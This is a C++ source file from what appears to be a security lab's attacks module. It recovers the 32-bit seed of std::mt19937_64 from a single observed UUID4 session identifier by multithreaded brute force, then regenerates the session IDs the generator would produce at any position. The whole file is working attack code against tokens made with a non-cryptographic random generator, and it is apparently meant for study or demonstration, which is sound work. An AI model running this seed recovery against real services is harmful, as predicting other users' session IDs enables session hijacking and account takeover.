#include "attacks/mt19937_seed_search.h"

#include <algorithm>
#include <array>
#include <atomic>
#include <mutex>
#include <random>
#include <thread>
#include <vector>

#include "core/uuid4.h"
#include "security/hex.h"

namespace lab::attacks {
namespace {

// std::mt19937_64's parameters (n = 312, m = 156, r = 31).
constexpr int kM = 156;
constexpr std::uint64_t kUpper = ~0ULL << 31;
constexpr std::uint64_t kLower = ~kUpper;
constexpr std::uint64_t kMatrixA = 0xb5026f5aa96619e9ULL;
constexpr std::uint64_t kInitMultiplier = 6364136223846793005ULL;
constexpr std::uint64_t kVersionMask = kUuid4HiMask;
constexpr std::uint64_t kVariantMask = kUuid4LoMask;

std::uint64_t temper(std::uint64_t y) {
  y ^= (y >> 29) & 0x5555555555555555ULL;
  y ^= (y << 17) & 0x71d67fffeda60000ULL;
  y ^= (y << 37) & 0xfff7eee000000000ULL;
  y ^= y >> 43;
  return y;
}

// Candidates are tried in batches so the multiplications of independent
// seeds overlap in the CPU's pipeline (about 6 million seeds a second per core
// with 8 positions: the whole 2^32 in about 6 minutes on two cores).
constexpr int kBatch = 16;

struct Worker {
  const Uuid4Outputs& observed;
  int words;      // initial state words needed: 2*max_index + 1 + m
  int max_index;

  // Seeds [begin, end); returns a match or nullopt. Stops early when `stop` is set.
  // Output k (< 156) of the first twist needs initial words k, k+1 and k+156 only.
  std::optional<RecoveredGenerator> scan(std::uint64_t begin, std::uint64_t end, const std::atomic<bool>& stop) const {
    std::vector<std::uint64_t> state(static_cast<std::size_t>(words) * kBatch);  // word-major: state[i * kBatch + b]
    for (std::uint64_t base = begin; base < end && !stop.load(std::memory_order_relaxed); base += kBatch) {
      std::uint64_t cur[kBatch];
      for (int b = 0; b < kBatch; ++b) state[b] = cur[b] = base + static_cast<std::uint64_t>(b);
      for (int i = 1; i < words; ++i) {
        std::uint64_t* row = &state[static_cast<std::size_t>(i) * kBatch];
        for (int b = 0; b < kBatch; ++b) {
          cur[b] = kInitMultiplier * (cur[b] ^ (cur[b] >> 62)) + static_cast<std::uint64_t>(i);
          row[b] = cur[b];
        }
      }
      for (int b = 0; b < kBatch && base + static_cast<std::uint64_t>(b) < end; ++b) {
        const auto word = [&](int i) { return state[static_cast<std::size_t>(i) * kBatch + b]; };
        const auto out = [&](int k) {
          const std::uint64_t x = (word(k) & kUpper) | (word(k + 1) & kLower);
          return temper(word(k + kM) ^ (x >> 1) ^ ((x & 1) ? kMatrixA : 0));
        };
        for (int index = 0; index < max_index; ++index) {
          if ((out(2 * index) & kVersionMask) != observed.hi) continue;
          if ((out(2 * index + 1) & kVariantMask) != observed.lo) continue;
          return RecoveredGenerator{static_cast<std::uint32_t>(base + static_cast<std::uint64_t>(b)), index, 0, {}};
        }
      }
    }
    return std::nullopt;
  }
};

}  // namespace

std::optional<Uuid4Outputs> parse_uuid4(std::string_view uuid) {
  if (uuid.size() != 36 || uuid[8] != '-' || uuid[13] != '-' || uuid[18] != '-' || uuid[23] != '-') return std::nullopt;
  std::string digits(uuid);
  std::erase(digits, '-');
  const auto bytes = security::hex_decode(digits);
  if (!bytes || bytes->size() != 16) return std::nullopt;
  std::uint64_t words[2] = {0, 0};
  for (std::size_t i = 0; i < 16; ++i) words[i / 8] = (words[i / 8] << 8) | static_cast<unsigned char>((*bytes)[i]);
  if ((words[0] & 0xf000) != 0x4000 || (words[1] >> 62) != 2) return std::nullopt;
  return Uuid4Outputs{words[0] & kVersionMask, words[1] & kVariantMask};
}

std::optional<RecoveredGenerator> recover_seed(const Uuid4Outputs& observed, const SeedSearch& search) {
  const auto started = std::chrono::steady_clock::now();
  const int max_index = std::clamp(search.max_index, 1, 64);
  const Worker worker{observed, 2 * max_index + 1 + kM, max_index};
  int threads = search.threads > 0 ? search.threads : static_cast<int>(std::thread::hardware_concurrency());
  threads = std::max(threads, 1);
  const std::uint64_t space = std::min<std::uint64_t>(search.seed_space, 1ULL << 32);
  // Interleaved chunks, so every thread sweeps the low seeds first.
  constexpr std::uint64_t kChunk = 1 << 16;
  std::atomic<std::uint64_t> next_chunk{0};
  std::atomic<bool> found{false};
  std::mutex mutex;
  std::optional<RecoveredGenerator> result;
  std::vector<std::thread> pool;
  for (int t = 0; t < threads; ++t) {
    pool.emplace_back([&] {
      while (!found.load()) {
        const std::uint64_t begin = next_chunk.fetch_add(1) * kChunk;
        if (begin >= space) return;
        if (auto hit = worker.scan(begin, std::min(begin + kChunk, space), found)) {
          std::lock_guard lock(mutex);
          if (!result) result = hit;
          found = true;
        }
      }
    });
  }
  for (auto& t : pool) t.join();
  if (result) {
    result->seeds_tried = std::min(next_chunk.load() * kChunk, space);
    result->took = std::chrono::duration_cast<std::chrono::milliseconds>(std::chrono::steady_clock::now() - started);
  }
  return result;
}

std::string session_id_at(std::uint32_t seed, int index) {
  std::mt19937_64 generator(seed);
  generator.discard(static_cast<unsigned long long>(2 * index));
  const std::uint64_t hi = generator();
  const std::uint64_t lo = generator();
  return format_uuid4(hi, lo);
}

}  // namespace lab::attacks
